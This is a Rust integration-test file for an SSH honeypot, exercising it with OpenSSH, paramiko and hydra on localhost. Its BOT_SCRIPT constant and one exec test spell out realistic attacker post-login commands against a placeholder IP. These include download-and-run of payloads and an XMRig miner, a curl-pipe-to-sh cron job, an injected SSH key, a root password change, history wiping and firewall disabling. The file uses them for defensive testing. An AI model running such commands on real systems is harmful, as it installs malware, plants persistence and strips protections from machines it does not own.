//! The honeypots against real clients. SSH: OpenSSH (`ssh` + `sshpass`), paramiko,
//! and a raw socket reading our KEXINIT. Only 127.0.0.1, bounded counts and time.
//! A test whose tool is missing skips locally and fails when `CI=true`. The
//! Telnet honeypot's tests are in [`telnet`].

mod telnet;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Command, Stdio};
use std::time::Duration;

use nectar_bus::EventReceiver;
use nectar_bus::EventSender;
use nectar_event::{Event, Kind};
use nectar_honeypot::capture::{Capture, RecordingsConfig, UploadsConfig};
use nectar_honeypot::ssh::parser::KexInit;
use nectar_honeypot::ssh::profile::{self, openssh_9_2};
use nectar_honeypot::ssh::{SshHoneypot, SshHoneypotConfig};
use nectar_honeypot::{HoneypotContext, Machine};

mod capture;
mod fingerprint;

struct Pot {
    honeypot: Option<SshHoneypot>,
    events: EventReceiver,
    addr: SocketAddr,
    dir: tempfile::TempDir,
}

async fn start(config: SshHoneypotConfig) -> Pot {
    start_with(config, RecordingsConfig::default()).await
}

async fn start_with(config: SshHoneypotConfig, recordings: RecordingsConfig) -> Pot {
    start_full(config, recordings, UploadsConfig::default()).await
}

async fn start_full(
    config: SshHoneypotConfig,
    recordings: RecordingsConfig,
    uploads: UploadsConfig,
) -> Pot {
    let dir = tempfile::tempdir().unwrap();
    let (bus, events) = EventSender::channel(100_000);
    let config = SshHoneypotConfig {
        listen: "127.0.0.1:0".parse().unwrap(),
        hostname: "web-7".into(),
        ..config
    };
    let capture = Capture::new(dir.path(), recordings, uploads).unwrap();
    let machine = Machine::decide(&config.hostname, dir.path()).unwrap();
    let mut cx = HoneypotContext::new(dir.path(), "test", bus, machine);
    cx.capture = capture;
    let honeypot = SshHoneypot::start(config, &cx).await.unwrap();
    let addr = honeypot.local_addr();
    Pot {
        honeypot: Some(honeypot),
        events,
        addr,
        dir,
    }
}

impl Pot {
    /// Stops the honeypot and returns every event it produced.
    async fn finish(mut self) -> Vec<Event> {
        if let Some(h) = self.honeypot.take() {
            h.stop(Duration::from_secs(10)).await;
        }
        let mut out = Vec::new();
        while let Ok(e) = self.events.try_recv() {
            out.push(e);
        }
        out
    }
}

/// Whether `tool` runs; panics under CI when it does not.
fn have(tool: &str, probe: &[&str]) -> bool {
    let ok = Command::new(tool)
        .args(probe)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok();
    if !ok && std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!(
            "{tool} is needed by this test (apt-get install openssh-client sshpass python3-paramiko)"
        );
    }
    if !ok {
        eprintln!("skipping: {tool} not installed");
    }
    ok
}

fn python_with_paramiko() -> Option<&'static str> {
    for py in ["/usr/bin/python3", "python3"] {
        let ok = Command::new(py)
            .args(["-c", "import paramiko"])
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        if ok {
            return Some(py);
        }
    }
    if std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("python3-paramiko is needed by this test");
    }
    eprintln!("skipping: paramiko not installed");
    None
}

fn ssh(addr: SocketAddr, password: &str, user: &str, extra: &[&str]) -> std::process::Output {
    ssh_with(addr, password, user, &[], extra)
}

/// [`ssh`] with more `-o` options (`options`, each `Key=value`).
fn ssh_with(
    addr: SocketAddr,
    password: &str,
    user: &str,
    options: &[&str],
    extra: &[&str],
) -> std::process::Output {
    let port = addr.port().to_string();
    let mut cmd = Command::new("timeout");
    cmd.args(["30", "sshpass", "-p", password, "ssh"])
        .args([
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
        ])
        .args(["-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no"])
        .args(["-o", "PreferredAuthentications=password", "-p", &port]);
    for option in options {
        cmd.args(["-o", option]);
    }
    cmd.arg(format!("{user}@127.0.0.1")).args(extra);
    cmd.output().unwrap()
}

fn of(events: &[Event], kind: Kind) -> Vec<&Event> {
    events.iter().filter(|e| e.kind == kind).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kexinit_is_openssh_9_2s() {
    let pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let (banner, kex) = tokio::task::spawn_blocking(move || {
        let mut s = TcpStream::connect(addr).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        s.write_all(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n")
            .unwrap();
        let mut data = Vec::new();
        let mut buf = [0u8; 4096];
        loop {
            let n = s.read(&mut buf).unwrap();
            assert!(n > 0, "closed early");
            data.extend_from_slice(&buf[..n]);
            if let Some(i) = data.iter().position(|&b| b == b'\n')
                && let Ok(Some(k)) = KexInit::parse_packet(&data[i + 1..])
            {
                return (String::from_utf8_lossy(&data[..i]).trim_end().to_owned(), k);
            }
        }
    })
    .await
    .unwrap();
    assert_eq!(banner, profile::DEBIAN_12_BANNER);
    assert_eq!(kex.kex, openssh_9_2::KEX);
    assert_eq!(kex.host_key, openssh_9_2::HOST_KEY);
    assert_eq!(kex.enc_s2c, openssh_9_2::CIPHERS);
    assert_eq!(kex.mac_s2c, openssh_9_2::MACS);
    assert_eq!(kex.comp_s2c, openssh_9_2::COMPRESSION);
    assert_eq!(kex.hassh_server(), openssh_9_2::HASSH_SERVER);
    pot.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn non_ssh_clients_get_openssh_error_strings() {
    let pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let replies = tokio::task::spawn_blocking(move || {
        let mut out = Vec::new();
        for line in [&b"GET / HTTP/1.0\r\n\r\n"[..], b"SSH-1.5-x\r\n"] {
            let mut s = TcpStream::connect(addr).unwrap();
            s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
            s.write_all(line).unwrap();
            let mut data = Vec::new();
            let _ = s.read_to_end(&mut data);
            out.push(String::from_utf8_lossy(&data).into_owned());
        }
        out
    })
    .await
    .unwrap();
    assert!(
        replies[0].ends_with("\r\nInvalid SSH identification string.\r\n"),
        "{replies:?}"
    );
    assert!(
        replies[1].ends_with("\r\nProtocol major versions differ.\r\n"),
        "{replies:?}"
    );
    pot.finish().await;
}

/// OpenSSH logs in with each host-key algorithm the profile offers forced: the
/// signature of the exchange verifies with every key (RSA ones are made by ring,
/// see `vendor/russh/NECTAR_PATCHES.md`, patch 8), twice for RSA so the second
/// signature comes from the converted key kept after the first.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openssh_verifies_the_signature_of_every_host_key() {
    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
        return;
    }
    let pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let algorithms = [
        "rsa-sha2-512",
        "rsa-sha2-256",
        "rsa-sha2-512",
        "ecdsa-sha2-nistp256",
        "ssh-ed25519",
    ];
    for algorithm in algorithms {
        let out = tokio::task::spawn_blocking(move || {
            let forced = format!("HostKeyAlgorithms={algorithm}");
            ssh_with(addr, "123456", "root", &[&forced], &["echo signed-ok"])
        })
        .await
        .unwrap();
        assert!(
            out.status.success() && String::from_utf8_lossy(&out.stdout).contains("signed-ok"),
            "{algorithm}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let events = pot.finish().await;
    assert_eq!(of(&events, Kind::SshLoginSuccess).len(), algorithms.len());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openssh_logins_exec_and_downloads_are_events() {
    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
        return;
    }
    let pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let (bad, good) = tokio::task::spawn_blocking(move || {
        let bad = ssh(addr, "hunter2", "root", &["id"]);
        let good = ssh(
            addr,
            "123456",
            "root",
            &["uname -a; cat /proc/cpuinfo | grep name | wc -l; cd /tmp && wget http://198.51.100.7/bins/x86 && chmod +x x86 && ./x86; nosuchcmd"],
        );
        (bad, good)
    })
    .await
    .unwrap();
    assert!(!bad.status.success());
    let stdout = String::from_utf8_lossy(&good.stdout);
    let stderr = String::from_utf8_lossy(&good.stderr);
    assert!(
        stdout.starts_with("Linux web-7 6.1.0-28-amd64"),
        "{stdout} {stderr}"
    );
    assert!(stdout.contains("\n2\n"), "{stdout}");
    // Without a terminal, errors and wget's report are stderr (SSH extended data).
    assert!(stderr.contains("saved ["), "{stderr}");
    assert!(stderr.contains("nosuchcmd: command not found"), "{stderr}");
    assert!(!stdout.contains("command not found"), "{stdout}");
    let events = pot.finish().await;
    let failed = of(&events, Kind::SshLoginFailed);
    assert_eq!(failed.len(), 1, "{failed:?}");
    assert_eq!(failed[0].data["username"], "root");
    assert_eq!(failed[0].data["password"], "hunter2");
    assert!(
        failed[0].data["client_version"]
            .as_str()
            .unwrap()
            .starts_with("SSH-2.0-OpenSSH_")
    );
    assert_eq!(failed[0].data["hassh"].as_str().unwrap().len(), 32);
    let ok = of(&events, Kind::SshLoginSuccess);
    assert_eq!(ok.len(), 1);
    assert_eq!(ok[0].data["password"], "123456");
    let exec = of(&events, Kind::SshExec);
    assert_eq!(exec.len(), 1);
    assert!(exec[0].data["input"].as_str().unwrap().contains("wget"));
    let dl = of(&events, Kind::SshDownload);
    assert_eq!(dl.len(), 1);
    assert_eq!(dl[0].data["url"], "http://198.51.100.7/bins/x86");
    // The HASSH lists are logged once, not per connection.
    assert_eq!(of(&events, Kind::SshClientKex).len(), 1);
    // Every event of a connection carries its session id.
    let sessions: std::collections::HashSet<_> =
        events.iter().map(|e| e.data["session"].clone()).collect();
    assert_eq!(sessions.len(), 2);
    assert_eq!(of(&events, Kind::SessionClose).len(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn interactive_shell_over_a_pty() {
    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
        return;
    }
    let pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let out = tokio::task::spawn_blocking(move || {
        let port = addr.port().to_string();
        let mut child = Command::new("timeout")
            .args(["30", "sshpass", "-p", "raspberry", "ssh", "-tt"])
            .args([
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
            ])
            .args([
                "-o",
                "LogLevel=ERROR",
                "-o",
                "PubkeyAuthentication=no",
                "-p",
                &port,
            ])
            .arg("pi@127.0.0.1")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        std::thread::sleep(Duration::from_secs(2));
        stdin.write_all(b"whoami; pwd\nexit\n").unwrap();
        child.wait_with_output().unwrap()
    })
    .await
    .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("pi@web-7:~$ "), "{text}");
    assert!(text.contains("pi\r\n/home/pi\r\n"), "{text}");
    let events = pot.finish().await;
    let commands: Vec<_> = of(&events, Kind::SshCommand)
        .iter()
        .map(|e| e.data["input"].clone())
        .collect();
    assert_eq!(commands, ["whoami; pwd", "exit"]);
}

/// A client that keeps sending is cut at `max_session_bytes` (counted by the tap
/// under russh, read-ahead included), and the close says why.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn max_session_bytes_ends_a_connection_that_keeps_sending() {
    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
        return;
    }
    let pot = start(SshHoneypotConfig {
        max_session_bytes: 256 * 1024,
        ..SshHoneypotConfig::default()
    })
    .await;
    let addr = pot.addr;
    let out = tokio::task::spawn_blocking(move || {
        let port = addr.port().to_string();
        let mut child = Command::new("timeout")
            .args(["30", "sshpass", "-p", "raspberry", "ssh"])
            .args(["-o", "StrictHostKeyChecking=no"])
            .args(["-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"])
            .args(["-o", "PubkeyAuthentication=no", "-p", &port])
            .args(["pi@127.0.0.1", "cat > /tmp/big"])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        // 4 MiB, far over the limit; the write fails once the server hangs up.
        let chunk = vec![b'A'; 64 * 1024];
        for _ in 0..64 {
            if stdin.write_all(&chunk).is_err() {
                break;
            }
        }
        drop(stdin);
        child.wait().unwrap()
    })
    .await
    .unwrap();
    assert_ne!(out.code(), Some(124), "ssh was not disconnected (timeout)");
    let events = pot.finish().await;
    let closes = of(&events, Kind::SessionClose);
    assert_eq!(closes.len(), 1);
    assert_eq!(
        closes[0].data["reason"], "max_session_bytes",
        "{:?}",
        closes[0]
    );
    assert!(
        events
            .iter()
            .any(|e| e.kind == Kind::SensorStatus && e.data["limit"] == "max_session_bytes")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn paramiko_attempts_exec_and_forwarding() {
    let Some(py) = python_with_paramiko() else {
        return;
    };
    let pot = start(SshHoneypotConfig::default()).await;
    let port = pot.addr.port().to_string();
    let script = r#"
import sys, paramiko, socket
port = int(sys.argv[1])
# Wrong passwords, one connection each (paramiko re-sends SERVICE_REQUEST on a
# reused transport, which russh ignores: paramiko/paramiko#1687).
for i in range(2):
    c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        c.connect("127.0.0.1", port=port, username="admin", password="wrong%d" % i, look_for_keys=False, allow_agent=False, timeout=10)
    except paramiko.AuthenticationException:
        print("refused")
    c.close()
c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("127.0.0.1", port=port, username="admin", password="admin", look_for_keys=False, allow_agent=False, timeout=10)
_, out, _ = c.exec_command("echo -e 'hi\\x21'; hostname")
print(out.read().decode().replace("\n", "|"))
try:
    c.get_transport().open_channel("direct-tcpip", ("10.1.2.3", 25), ("127.0.0.1", 4444), timeout=10)
    print("forward opened")
except paramiko.ChannelException as e:
    print("forward refused", e.code)
c.close()
"#;
    let py = py.to_owned();
    let out = tokio::task::spawn_blocking(move || {
        Command::new("timeout")
            .args(["60", &py, "-c", script, &port])
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("hi!|web-7|"),
        "{text} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("forward refused 1"), "{text}");
    assert_eq!(text.matches("refused\n").count(), 2, "{text}");
    let events = pot.finish().await;
    let failed = of(&events, Kind::SshLoginFailed);
    assert_eq!(failed.len(), 2, "{failed:?}");
    assert!(
        failed[0].data["client_version"]
            .as_str()
            .unwrap()
            .starts_with("SSH-2.0-paramiko")
    );
    let fwd = of(&events, Kind::SshForward);
    assert_eq!(fwd.len(), 1);
    assert_eq!(fwd[0].data["target_host"], "10.1.2.3");
    assert_eq!(fwd[0].data["target_port"], 25);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn per_ip_limit_refuses_and_reports() {
    let pot = start(SshHoneypotConfig {
        max_connections_per_ip: 2,
        ..Default::default()
    })
    .await;
    let addr = pot.addr;
    let closed = tokio::task::spawn_blocking(move || {
        let held: Vec<TcpStream> = (0..2).map(|_| TcpStream::connect(addr).unwrap()).collect();
        std::thread::sleep(Duration::from_millis(300));
        let mut third = TcpStream::connect(addr).unwrap();
        third
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let mut buf = [0u8; 64];
        let n = third.read(&mut buf).unwrap_or(0);
        drop(held);
        n == 0
    })
    .await
    .unwrap();
    assert!(closed, "the third connection should be closed at once");
    let events = pot.finish().await;
    assert!(
        of(&events, Kind::SensorStatus)
            .iter()
            .any(|e| e.data["limit"] == "max_connections_per_ip")
    );
}

/// The tool's path, or a CI failure / local skip.
fn need(tool: &str) -> bool {
    let ok = Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !ok && std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("{tool} is needed by this test (apt-get install {tool})");
    }
    if !ok {
        eprintln!("skipping: {tool} not installed");
    }
    ok
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hydra_finds_the_weak_pair_and_every_attempt_is_an_event() {
    if !need("hydra") {
        return;
    }
    let pot = start(SshHoneypotConfig::default()).await;
    let port = pot.addr.port().to_string();
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("passwords.txt");
    // 15 wrong, then the accepted one last, so hydra has to try them all.
    let mut words: Vec<String> = (1..=15).map(|i| format!("wrong{i:02}")).collect();
    words.push("123456".into());
    std::fs::write(&list, words.join("\n") + "\n").unwrap();
    let list_arg = list.to_str().unwrap().to_owned();
    let out = tokio::task::spawn_blocking(move || {
        let run = || {
            Command::new("timeout")
                .args(["120", "hydra", "-I", "-l", "root", "-P", &list_arg])
                .args(["-t", "4", "-s", &port, "ssh://127.0.0.1"])
                .output()
                .unwrap()
        };
        // Under the full suite's load hydra's libssh workers sometimes give up
        // at once ("could not be connected", no attempt made); one more run,
        // bounded, tells that apart from a honeypot that refuses them.
        let first = run();
        if String::from_utf8_lossy(&first.stdout).contains("could not be connected")
            || String::from_utf8_lossy(&first.stderr).contains("could not be connected")
        {
            std::thread::sleep(std::time::Duration::from_secs(2));
            return run();
        }
        first
    })
    .await
    .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("login: root") && text.contains("password: 123456"),
        "{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("1 valid password found"), "{text}");
    let events = pot.finish().await;
    let failed = of(&events, Kind::SshLoginFailed);
    let ok = of(&events, Kind::SshLoginSuccess);
    assert!(!ok.is_empty(), "no success event");
    for e in failed.iter().chain(ok.iter()) {
        assert_eq!(e.data["username"], "root", "{e:?}");
        let pw = e.data["password"].as_str().expect("password field");
        assert!(words.iter().any(|w| w == pw), "unexpected password {pw}");
        assert!(
            e.data["client_version"]
                .as_str()
                .unwrap()
                .starts_with("SSH-2.0-")
        );
        assert_eq!(e.data["hassh"].as_str().unwrap().len(), 32);
    }
    assert!(ok.iter().all(|e| e.data["password"] == "123456"));
    // Every wrong password hydra sent is there.
    let tried: std::collections::HashSet<&str> = failed
        .iter()
        .map(|e| e.data["password"].as_str().unwrap())
        .collect();
    for w in &words[..15] {
        assert!(tried.contains(w.as_str()), "no event for {w}: {tried:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn max_auth_tries_ends_with_openssh_disconnect_on_one_connection() {
    if !have("ssh", &["-V"]) {
        return;
    }
    let pot = start(SshHoneypotConfig::default()).await;
    let port = pot.addr.port().to_string();
    let dir = tempfile::tempdir().unwrap();
    // OpenSSH asks this program for every password prompt, on one connection.
    let askpass = dir.path().join("askpass.sh");
    let count = dir.path().join("count");
    std::fs::write(
        &askpass,
        format!("#!/bin/sh\necho x >> {}\necho wrongpass\n", count.display()),
    )
    .unwrap();
    std::fs::set_permissions(
        &askpass,
        std::os::unix::fs::PermissionsExt::from_mode(0o700),
    )
    .unwrap();
    let out = tokio::task::spawn_blocking(move || {
        Command::new("timeout")
            .args(["60", "ssh", "-o", "StrictHostKeyChecking=no"])
            .args(["-o", "UserKnownHostsFile=/dev/null"])
            .args(["-o", "PubkeyAuthentication=no"])
            .args(["-o", "PreferredAuthentications=password"])
            .args(["-o", "NumberOfPasswordPrompts=20", "-p", &port])
            .args(["root@127.0.0.1", "true"])
            .env("SSH_ASKPASS", &askpass)
            .env("SSH_ASKPASS_REQUIRE", "force")
            .env("DISPLAY", ":0")
            .stdin(Stdio::null())
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    // OpenSSH's own words, reason 2 (protocol error), as sshd's MaxAuthTries.
    assert!(
        stderr.contains("Received disconnect from 127.0.0.1 port")
            && stderr.contains(":2: Too many authentication failures"),
        "{stderr}"
    );
    let prompts = std::fs::read_to_string(&count).unwrap().lines().count();
    assert!((6..=7).contains(&prompts), "{prompts} prompts");
    let events = pot.finish().await;
    let failed = of(&events, Kind::SshLoginFailed);
    assert_eq!(failed.len(), 6, "{failed:?}");
    assert!(failed.iter().all(|e| e.data["password"] == "wrongpass"));
    let sessions: std::collections::HashSet<_> =
        failed.iter().map(|e| e.data["session"].clone()).collect();
    assert_eq!(sessions.len(), 1, "not one connection");
    assert!(
        events
            .iter()
            .any(|e| e.kind == Kind::SensorStatus && e.data["limit"] == "max_auth_attempts")
    );
}

/// What droppers and miners run after logging in (Mirai-style loaders, XMRig
/// installers, recon one-liners).
const BOT_SCRIPT: &str = r#"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 198.51.100.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh
cd /tmp; wget -q http://198.51.100.7/x -O .x; chmod +x .x; ./.x
cat /proc/cpuinfo | grep name | wc -l
uname -a; nproc; free -m
echo -e "\x41\x42"
/bin/busybox ECCHI; busybox ps; busybox cat /proc/mounts | head -1
crontab -l
ls -la /dev/shm; ls -la ~/.ssh
unset HISTFILE; export HISTFILE=/dev/null; history -c
cat /etc/issue; cat /etc/os-release | head -2
lscpu | grep Model; top -bn1 | head -3
ps aux | grep -v grep | grep xmrig; pkill -9 xmrig; killall -9 kinsing
chattr -ia /etc/passwd; lsattr /etc/passwd
echo 'root:Abc123' | chpasswd
mkdir -p /tmp/.x && cd /tmp/.x && curl -s -O http://198.51.100.7/xmrig.tar.gz && tar xzf xmrig.tar.gz; nohup ./xmrig -o pool:3333 >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo '* * * * * curl -s http://198.51.100.7/a.sh | sh') | crontab -
mkdir -p ~/.ssh && echo 'ssh-rsa AAAAB3Nza x' >> ~/.ssh/authorized_keys && chmod -R go= ~/.ssh
which ls wget curl perl; getconf LONG_BIT; arch
for i in 1 2 3; do echo $i; done
base64 -d <<< YWJj; echo YWJj | base64 -d
find /tmp -maxdepth 1 -type d | head -3; od -c /etc/hostname | head -1
ulimit -n 65535; sysctl -w vm.nr_hugepages=128; iptables -F; systemctl stop firewalld
cat /proc/version; uptime; w; id
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bot_scripts_over_openssh_meet_few_not_found() {
    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
        return;
    }
    let pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    // Once as one exec line (the way loaders send it), once per line.
    let out = tokio::task::spawn_blocking(move || {
        let one = ssh(addr, "123456", "root", &[&BOT_SCRIPT.replace('\n', "; ")]);
        let lines: Vec<_> = BOT_SCRIPT
            .lines()
            .map(|l| ssh(addr, "123456", "root", &[l]))
            .collect();
        (one, lines)
    })
    .await
    .unwrap();
    let (one, lines) = out;
    let mut all = String::new();
    for o in std::iter::once(&one).chain(lines.iter()) {
        all.push_str(&String::from_utf8_lossy(&o.stdout));
        all.push_str(&String::from_utf8_lossy(&o.stderr));
    }
    let stdout = String::from_utf8_lossy(&one.stdout);
    assert!(stdout.contains("Linux web-7 6.1.0-28-amd64"), "{all}");
    assert!(stdout.contains("\nAB\n"), "{stdout}");
    assert!(
        stdout.contains("1\n2\n3\n") || !stdout.contains("for:"),
        "{stdout}"
    );
    // Only busybox's answer to an unknown applet is expected (as on Debian).
    let not_found: Vec<&str> = all.lines().filter(|l| l.contains("not found")).collect();
    assert!(not_found.len() <= 2, "{not_found:#?}");
    assert!(!all.contains("command not found"), "{all}");
    assert!(!all.contains("syntax error"), "{all}");
    let events = pot.finish().await;
    let urls: std::collections::HashSet<String> = of(&events, Kind::SshDownload)
        .iter()
        .map(|e| e.data["url"].as_str().unwrap().to_owned())
        .collect();
    for u in [
        "http://198.51.100.7/bins.sh",
        "http://198.51.100.7/x",
        "http://198.51.100.7/xmrig.tar.gz",
        "tftp://198.51.100.7/tftp1.sh",
    ] {
        assert!(urls.contains(u), "{u} not in {urls:?}");
    }
    let execs = of(&events, Kind::SshExec);
    assert_eq!(execs.len(), 1 + BOT_SCRIPT.lines().count());
}

mod http;
